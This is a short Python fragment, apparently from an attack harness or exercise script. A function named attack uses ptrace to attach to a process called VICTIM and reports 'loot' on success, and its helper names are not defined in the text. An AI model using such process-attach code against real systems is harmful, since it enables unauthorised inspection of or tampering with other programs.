@at_once
def attack():
    if ctypes.CDLL(None).ptrace(16, VICTIM, None, None) == 0:
        loot('attached')
